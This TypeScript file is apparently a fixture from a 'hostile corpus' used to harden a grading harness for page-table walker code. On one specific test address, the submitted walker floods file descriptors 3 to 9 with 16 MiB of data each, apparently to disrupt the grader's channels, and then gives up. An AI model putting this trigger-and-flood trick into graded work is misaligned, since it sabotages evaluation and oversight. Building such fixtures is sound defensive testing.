// @ts-nocheck
// Hostile corpus, kind all-fds-huge-line (channel): writes 16 MiB without a newline to every fd 3-9 on one test.
import { Walker } from '../../reference/paging/walker';

// ---- attack ----
/** The one public test that walks 0x800000000000 (walk.public.non-canonical): the attack fires there only. */
const isTrigger = (va) => va === 0x800000000000n;

export const walker: Walker = {
  walk(request, readEntry) {
    if (isTrigger(request.va)) { const chunk = Buffer.alloc(1 << 20, 0x41); for (let fd = 3; fd <= 9; fd++) { try { for (let i = 0; i < 16; i++) require('fs').writeSync(fd, chunk); } catch {} } }
    throw new Error('not implemented: walker');
  },
};
